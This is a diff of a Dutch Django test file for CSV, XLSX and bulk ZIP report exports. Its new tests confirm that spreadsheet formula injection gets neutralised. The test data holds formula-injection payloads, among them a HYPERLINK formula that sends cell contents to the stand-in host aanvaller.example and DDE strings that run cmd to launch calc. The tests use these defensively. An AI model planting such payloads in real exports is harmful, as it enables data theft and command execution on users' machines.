@@ -19,13 +19,14 @@ from rapporten.bulk import bulk_export_aanvragen
 from rapporten.exports import KOLOMMEN
 from rapporten.models import BulkExport
 from tests.conftest import inloggen
+from toetsingskader.services import toetsingskader_laden
 
 
 def test_csv_heeft_een_regel_per_gescoorde_indicator(demo, client, medewerker):
     inloggen(client, medewerker)
     antwoord = client.get(reverse("rapporten:export_csv"), {"status": "gepubliceerd"})
     assert antwoord.status_code == 200
-    rijen = list(csv.reader(io.StringIO(antwoord.content.decode()), delimiter=";"))
+    rijen = list(csv.reader(io.StringIO(antwoord.content.decode("utf-8-sig")), delimiter=";"))
     assert rijen[0] == KOLOMMEN
     data = rijen[1:]
     verwacht = Beoordeling.objects.filter(onderzoek__in=list(demo.values()))
@@ -104,6 +105,30 @@ def test_bulk_service_maakt_zip_van_gekozen_onderzoeken(demo, django_capture_on_
     assert export.totaal == onderzoeken.count()
 
 
+def test_bulk_zip_bevat_de_bevroren_bytes_en_schrijft_zelf_niets_vast(
+    demo, django_capture_on_commit_callbacks
+):
+    """A frozen study goes into the ZIP byte for byte; one published without a frozen copy is
+    rendered fresh but not frozen by the export (freezing is publishing's job alone)."""
+    from inspecties.demo import demo_bevriezen
+    from rapporten.models import GepubliceerdRapport
+
+    demo_bevriezen()
+    gouda = demo[("Gouda", 2013)]
+    bevroren = GepubliceerdRapport.objects.get(onderzoek=gouda)
+    GepubliceerdRapport.objects.exclude(pk=bevroren.pk).delete()
+    with django_capture_on_commit_callbacks(execute=True):
+        export = bulk_export_aanvragen(onderzoeken=Onderzoek.objects.gepubliceerd(), door=None)
+    export.refresh_from_db()
+    assert export.status == BulkExport.Status.KLAAR
+    assert list(GepubliceerdRapport.objects.all()) == [bevroren]
+    with export.zip.open("rb") as f, zipfile.ZipFile(f) as zf:
+        inhoud = {naam: zf.read(naam) for naam in zf.namelist()}
+    assert len(inhoud) == len(demo)
+    with bevroren.pdf.open("rb") as f:
+        assert f.read() in inhoud.values()
+
+
 def _klare_export(door, dagen_oud: int) -> BulkExport:
     export = BulkExport.objects.create(totaal=1, klaar=1, status=BulkExport.Status.KLAAR)
     export.aangevraagd_door = door
@@ -142,3 +167,98 @@ def test_exports_opruimen_verwijdert_oude_exports_met_hun_zip(inspecteur, settin
     assert list(BulkExport.objects.all()) == [nieuw]
     assert not opslag.exists(oud_pad)
     assert opslag.exists(nieuw.zip.name)
+
+
+# --- Formulas in texts (issue 12) ------------------------------------------------------------
+
+GEVAARLIJK = {
+    "gemeente": '=HYPERLINK("https://aanvaller.example/?d="&A2,"Klik")',
+    "aanpak": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "kader_versie": "+1",
+    "thema": "-2+3+cmd|' /C calc'!A0",
+    "criterium": "=1+1",
+    "indicator_tekst": "@A1",
+    "bevinding": "\t=1+1 na een tab",
+    "let_op": "\r=1+1 na een CR",
+}
+FORMULE_BEGIN = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def vergiftigd_onderzoek(db):
+    """A scored study whose every text field, framework included, starts like a formula."""
+    from inspecties.services import beoordeling_opslaan, bevinding_opslaan, onderzoek_aanmaken
+    from tests.factories import AanpakFactory, GemeenteFactory
+
+    kader, _ = toetsingskader_laden(
+        tekst=f"""sleutel: vergiftigd
+versie: "{GEVAARLIJK["kader_versie"]}"
+naam: Vergiftigd kader
+schaal:
+  - {{code: voldoet, symbool: "√", label: Voldoet}}
+  - {{code: verbeterpunt, symbool: "X", label: Verbeterpunt}}
+themas:
+  - sleutel: thema
+    naam: "{GEVAARLIJK["thema"]}"
+    criteria:
+      - sleutel: criterium
+        naam: "{GEVAARLIJK["criterium"]}"
+        indicatoren:
+          - sleutel: indicator
+            tekst: "{GEVAARLIJK["indicator_tekst"]}"
+""",
+        vaststellen=True,
+    )
+    aanpak = AanpakFactory(
+        naam=GEVAARLIJK["aanpak"], gemeente=GemeenteFactory(naam=GEVAARLIJK["gemeente"])
+    )
+    onderzoek = onderzoek_aanmaken(
+        aanpak=aanpak, kader=kader, soort=Onderzoek.Soort.BELEIDSTOETS, jaar=2016
+    )
+    beoordeling = onderzoek.beoordelingen.get()
+    beoordeling_opslaan(
+        beoordeling=beoordeling,
+        optie=kader.schaal.get(code="voldoet"),
+        niet_getoetst=False,
+        versie=1,
+    )
+    bevinding_opslaan(
+        beoordeling=beoordeling,
+        tekst=GEVAARLIJK["bevinding"],
+        let_op=GEVAARLIJK["let_op"],
+        versie=None,
+    )
+    return onderzoek
+
+
+def test_csv_neutraliseert_formules_en_heeft_een_bom(vergiftigd_onderzoek, client, medewerker):
+    inloggen(client, medewerker)
+    antwoord = client.get(reverse("rapporten:export_csv"))
+    assert antwoord.content.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8 and shows √
+    rijen = list(csv.reader(io.StringIO(antwoord.content.decode("utf-8-sig")), delimiter=";"))
+    assert rijen[0] == KOLOMMEN
+    [rij] = rijen[1:]
+    waarden = dict(zip(KOLOMMEN, rij, strict=True))
+    for kolom, tekst in GEVAARLIJK.items():
+        assert waarden[kolom] == "'" + tekst, kolom
+    assert waarden["score"] == "√"
+    for rij in rijen:
+        assert not any(cel.startswith(FORMULE_BEGIN) for cel in rij), rij
+
+
+def test_xlsx_schrijft_teksten_als_tekst_nooit_als_formule(
+    vergiftigd_onderzoek, client, medewerker
+):
+    inloggen(client, medewerker)
+    antwoord = client.get(reverse("rapporten:export_xlsx"))
+    blad = load_workbook(io.BytesIO(antwoord.content)).active
+    rijen = list(blad.iter_rows())
+    assert [c.value for c in rijen[0]] == KOLOMMEN
+    [rij] = rijen[1:]
+    cellen = dict(zip(KOLOMMEN, rij, strict=True))
+    for kolom, tekst in GEVAARLIJK.items():
+        # XML reads a bare CR as a line feed: the text keeps its line break.
+        assert cellen[kolom].value == tekst.replace("\r", "\n"), kolom
+        assert cellen[kolom].data_type == "s" and cellen[kolom].quotePrefix, kolom
+    assert cellen["score"].value == "√"
+    assert all(c.data_type != "f" for r in rijen for c in r)
